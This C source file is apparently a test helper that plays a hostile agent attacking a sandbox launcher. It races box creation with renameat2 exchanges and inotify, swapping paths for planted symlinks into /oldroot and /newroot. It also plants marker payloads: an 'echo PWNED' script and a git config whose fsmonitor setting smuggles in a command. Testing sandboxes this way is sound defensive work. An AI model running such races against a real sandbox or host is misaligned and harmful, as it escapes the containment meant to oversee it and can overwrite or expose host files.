/*
 * racer VICTIM NAME… — what a hostile agent runs in a directory while other boxes start below it. Each name is exchanged
 * for what might lead a mount, a placeholder or a clean-up elsewhere, and exchanged back, as long as this runs; a name
 * that appears is exchanged at once. The first byte of the file "turn" in the working directory says which name has its
 * turn, counted from 1. Prints "ready" when it has begun.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { SPARES = 11, EXCHANGE = 2, NO_REPLACE = 1 };

static const volatile unsigned char *turn;
static char spares[64];
static const char *victim;

static void spare_path(char *path, int spare) { snprintf(path, PATH_MAX, "%s/%d", spares, spare); }

static void plant_link(int spare, const char *format) {
    char path[PATH_MAX], to[PATH_MAX];
    spare_path(path, spare);
    snprintf(to, sizeof to, format, victim);
    if (symlink(to, path) != 0) perror(path);
}

static void plant_file(const char *path, const char *text, mode_t mode) {
    int file = open(path, O_WRONLY | O_CREAT | O_TRUNC, mode);
    if (file < 0 || write(file, text, strlen(text)) < 0) perror(path);
    close(file);
}

static void plant(void) {
    char path[PATH_MAX], within[PATH_MAX + 32];
    mkdir(spares, 0755);
    plant_link(0, "%s/file");
    plant_link(1, "/oldroot%s/file");
    plant_link(2, "/oldroot%s/none");
    plant_link(3, "/newroot/usr/bin/id%.0s");
    plant_link(4, "%s");
    plant_link(5, "/oldroot%s");
    plant_link(6, "%s/none");
    spare_path(path, 7);
    plant_file(path, "#!/bin/sh\necho PWNED\n", 0755);
    spare_path(path, 8);
    mkdir(path, 0755);
    snprintf(within, sizeof within, "%s/config", path);
    plant_file(within, "[core]\n\tfsmonitor = echo PWNED\n", 0644);
    spare_path(path, 9);
    mkfifo(path, 0644);
    /* A link to a name that is exchanged itself: it leads nowhere, and then to the victim. */
    spare_path(path, 10);
    snprintf(within, sizeof within, "%s/toggle", spares);
    if (symlink("/oldroot/none/x", within) != 0) perror(within);
    snprintf(within, sizeof within, "/newroot/%s/%s/toggle", getcwd((char[PATH_MAX]){0}, PATH_MAX), spares);
    if (symlink(within, path) != 0) perror(path);
}

static int swap(const char *one, const char *other, unsigned flags) {
    return (int)syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, flags);
}

static void pause_up_to(unsigned *seed, int microseconds) {
    int pause = rand_r(seed) % (microseconds + 1);
    if (pause > 50) usleep((useconds_t)pause);
}

/* One of the two processes that exchange a name has it at a time: otherwise it would not get its own content back. */
static atomic_int *holder;

static bool take_turn(int number) {
    int nobody = 0;
    return turn[0] == number && atomic_compare_exchange_strong(holder, &nobody, number);
}

static void end_turn(void) { atomic_store(holder, 0); }

/* The toggle leads to the victim for a moment: what was missing when it was looked for is there when it is opened. */
static void lead_to_victim(const char *toggle) {
    char real[PATH_MAX], to[PATH_MAX];
    snprintf(real, sizeof real, "%.4000s-real", toggle);
    snprintf(to, sizeof to, "/oldroot%s/file", victim);
    if (symlink(to, real) == 0) {
        swap(real, toggle, EXCHANGE);
        unlink(real);
    }
    snprintf(to, sizeof to, "/oldroot/none/x");
    if (symlink(to, real) == 0) {
        usleep(200);
        swap(real, toggle, EXCHANGE);
        unlink(real);
    }
}

/* What is not there yet is put there, and taken away again. */
static void exchange(const char *name, unsigned *seed) {
    char spare[PATH_MAX], toggle[PATH_MAX];
    spare_path(spare, rand_r(seed) % SPARES);
    snprintf(toggle, sizeof toggle, "%s/toggle", spares);
    int flags = EXCHANGE;
    if (swap(spare, name, EXCHANGE) != 0) {
        flags = NO_REPLACE;
        if (swap(spare, name, NO_REPLACE) != 0) return;
    }
    if (rand_r(seed) % 2) lead_to_victim(toggle);
    pause_up_to(seed, 3000);
    if (swap(name, spare, flags) != 0 && flags == EXCHANGE) swap(name, spare, NO_REPLACE);
}

static void race(const char *name, int number) {
    unsigned seed = (unsigned)(number * 7919);
    for (;;) {
        if (take_turn(number)) {
            exchange(name, &seed);
            end_turn();
            pause_up_to(&seed, 20000);
        } else {
            usleep(1000);
        }
    }
}

/* Exchanges a name in the moment in which it or one beside it appears. */
static void await(const char *name, int number) {
    char directory[PATH_MAX], events[4096];
    snprintf(directory, sizeof directory, "%s", name);
    char *slash = strrchr(directory, '/');
    if (slash == NULL) return;
    *slash = '\0';
    unsigned seed = (unsigned)(number * 104729);
    int watch = inotify_init1(IN_CLOEXEC);
    if (inotify_add_watch(watch, directory, IN_CREATE | IN_OPEN) < 0) return;
    while (read(watch, events, sizeof events) > 0) {
        pause_up_to(&seed, 4000);
        if (!take_turn(number)) continue;
        exchange(name, &seed);
        end_turn();
    }
}

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    int file = open("turn", O_RDWR | O_CREAT, 0644);
    if (file < 0 || ftruncate(file, 4096) != 0) return 3;
    turn = mmap(NULL, 4096, PROT_READ, MAP_SHARED, file, 0);
    holder = mmap(NULL, sizeof *holder, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (turn == MAP_FAILED || holder == MAP_FAILED) return 3;
    victim = argv[1];
    for (int number = 1; number < argc - 1; number++) {
        snprintf(spares, sizeof spares, "spares-%d", number);
        plant();
        for (int both = 0; both < 2; both++) {
            if (fork() != 0) continue;
            prctl(PR_SET_PDEATHSIG, SIGKILL);
            if (both) await(argv[number + 1], number);
            else race(argv[number + 1], number);
            return 0;
        }
    }
    puts("ready");
    fflush(stdout);
    for (;;) pause();
}
